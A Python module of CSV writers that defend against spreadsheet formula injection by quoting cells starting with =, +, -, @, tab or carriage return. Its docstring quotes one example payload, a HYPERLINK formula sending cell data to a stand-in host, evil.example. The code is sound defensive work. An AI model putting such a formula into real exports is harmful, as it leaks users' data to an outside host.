"""CSV for spreadsheets: every CSV Redress writes goes through these writers.

A spreadsheet opening a CSV runs a cell that begins with =, +, -, @ (or a tab or carriage
return, which some strip before looking) as a formula: a name typed as
`=HYPERLINK("http://evil.example/?"&A1, "Click")` would send the sheet's data away or run a
command. Such a text cell is written with a leading single quote, which spreadsheets read as
"this is text" (OWASP's CSV injection advice). A plain number, such as -3 or -1.5, is left as it
is: it is not a formula, and the figures CSV must import back unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Mapping
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """The value, with a leading ' when a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every cell passes through `spreadsheet_safe`."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose every cell passes through `spreadsheet_safe`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: spreadsheet_safe(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(out: IO[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def dict_writer(out: IO[str], fieldnames: Iterable[str], **kwargs: Any) -> SafeDictWriter:
    return SafeDictWriter(out, fieldnames=list(fieldnames), **kwargs)


class _Echo:
    """A file that hands back what is written, for streaming rows one at a time."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The header and rows as CSV lines for a streamed response, every cell made safe. The
    first line starts with a byte-order mark so that spreadsheets read the file as UTF-8."""
    out = SafeWriter(_Echo(), lineterminator="\r\n")  # type: ignore[arg-type]
    yield "\ufeff" + out.writerow(header)
    for row in rows:
        yield out.writerow(row)
